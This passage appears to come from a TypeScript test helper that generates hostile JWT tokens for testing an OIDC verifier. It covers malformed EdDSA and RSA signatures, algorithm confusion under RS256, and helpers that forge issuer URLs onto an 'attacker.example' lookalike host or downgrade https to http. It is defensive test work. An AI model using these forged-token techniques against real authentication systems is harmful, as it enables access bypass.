    const sScalar = littleEndianToBigInt(sig.subarray(32)) + ED25519_ORDER;
    add('eddsa-signature/s-not-reduced', `${dh}.${dp}.${b64(Buffer.concat([sig.subarray(0, 32), bigIntToLittleEndian(sScalar, 32)]))}`, 'auth.token_bad_signature');
    add('eddsa-signature/r-zero', `${dh}.${dp}.${b64(Buffer.concat([Buffer.alloc(32), sig.subarray(32)]))}`, 'auth.token_bad_signature');
  }
  {
    const [rh, rp] = segmentsOf(rsToken);
    const n = Buffer.from(String(rsaJwk.n), 'base64url');
    const one = Buffer.alloc(n.length);
    one[one.length - 1] = 1;
    add('rsa-signature/equal-to-modulus', `${rh}.${rp}.${b64(n)}`, 'auth.token_bad_signature');
    add('rsa-signature/value-one', `${rh}.${rp}.${b64(one)}`, 'auth.token_bad_signature');
    add('rsa-signature/pss-under-rs256', `${rh}.${rp}.${b64(signatureOf(`${rh}.${rp}`, { alg: 'PS256', key: key('RS256').privateKey }))}`, 'auth.token_bad_signature');
    add('rsa-signature/sha512-under-rs256', `${rh}.${rp}.${b64(signatureOf(`${rh}.${rp}`, { alg: 'RS512', key: key('RS256').privateKey }))}`, 'auth.token_bad_signature');
  }

  return cases;
}

/**
 * The genuine counterpart of the corpus: one token per algorithm with exactly the claims and
 * header the hostile cases start from. A verifier (or server) under test must accept these,
 * which shows each hostile case is refused for its own fault.
 */
export async function genuineTokens(issuer: TestIssuer, settings: OidcVerifierSettings, options: HostileTokenOptions = {}): Promise<{ name: string; token: string }[]> {
  const t = Math.floor((options.now ?? new Date()).getTime() / 1000);
  return testIssuerAlgorithms.map((alg) => ({
    name: `genuine/${alg}`,
    token: signCompact(genuineHeader(settings, alg, issuer.keys[alg].kid), genuineClaims(settings, t), { alg, key: issuer.keys[alg].privateKey }),
  }));
}

function genuineClaims(settings: OidcVerifierSettings, t: number): Json {
  const audience = typeof settings.audience === 'string' ? settings.audience : (settings.audience[0] ?? 'ward');
  const c: Json = { iss: settings.issuer, sub: 'alice', aud: audience, iat: t - 30, nbf: t - 30, exp: t + 3600, amr: ['pwd', 'mfa'] };
  setPath(c, settings.roleClaim, [Object.keys(settings.roleMap)[0] ?? 'staff']);
  return c;
}

/** `extra` adds or replaces parameters; an `undefined` value removes one. */
function genuineHeader(settings: OidcVerifierSettings, alg: unknown, kid: unknown, extra: Json = {}): Json {
  const h: Json = { alg, ...(kid === null ? {} : { kid }), ...(settings.requiredTyp === undefined ? {} : { typ: settings.requiredTyp }), ...extra };
  for (const [k, v] of Object.entries(h)) if (v === undefined) delete h[k];
  return h;
}

/** `{ <top-level role claim>: value-at-path }`, so a case can replace the role claim whatever its path. */
function roleClaimOverride(settings: OidcVerifierSettings, value: unknown): Json {
  const [top = 'roles'] = settings.roleClaim;
  return { [top]: topLevelRoleClaimValue(settings, value) };
}

function topLevelRoleClaimValue(settings: OidcVerifierSettings, value: unknown): unknown {
  const holder: Json = {};
  setPath(holder, settings.roleClaim, value);
  return holder[settings.roleClaim[0] ?? 'roles'];
}

function setPath(target: Json, path: readonly string[], value: unknown): void {
  let node = target;
  path.forEach((segment, i) => {
    if (i === path.length - 1) {
      node[segment] = value;
      return;
    }
    const next = node[segment];
    const child: Json = typeof next === 'object' && next !== null && !Array.isArray(next) ? (next as Json) : {};
    node[segment] = child;
    node = child;
  });
}

function flipScheme(url: string): string {
  return url.startsWith('https:') ? `http:${url.slice(6)}` : url.replace(/^http:/, 'https:');
}

function lookalikeHost(url: string): string {
  const u = new URL(url);
  return `${u.protocol}//${u.hostname}.attacker.example${u.port === '' ? '' : `:${u.port}`}${u.pathname}`;
}

/** ECDSA-Sig-Value (RFC 3279 §2.2.3) from r and s: the encoding JWS does not use. */
function derSignature(r: Buffer, s: Buffer): Buffer {
  const integer = (v: Buffer) => {
    let i = 0;
    while (i < v.length - 1 && v[i] === 0) i++;
    let body = v.subarray(i);
    if ((body[0] ?? 0) & 0x80) body = Buffer.concat([Buffer.from([0]), body]);
    return Buffer.concat([Buffer.from([0x02, body.length]), body]);
  };
  const content = Buffer.concat([integer(r), integer(s)]);
  return Buffer.concat([Buffer.from([0x30, content.length]), content]);
}

function littleEndianToBigInt(bytes: Buffer): bigint {
  return BigInt(`0x${Buffer.from(bytes).reverse().toString('hex') || '0'}`);
}

function bigIntToLittleEndian(value: bigint, length: number): Buffer {
  return Buffer.from(value.toString(16).padStart(length * 2, '0'), 'hex').reverse();
}

/** Like `signCompact` with a payload that is not valid UTF-8 text. */
function signCompactBytes(header: Json, payload: Buffer, signer: CompactSigner): string {
  const signingInput = `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${payload.toString('base64url')}`;
  return `${signingInput}.${signatureOf(signingInput, signer).toString('base64url')}`;
}
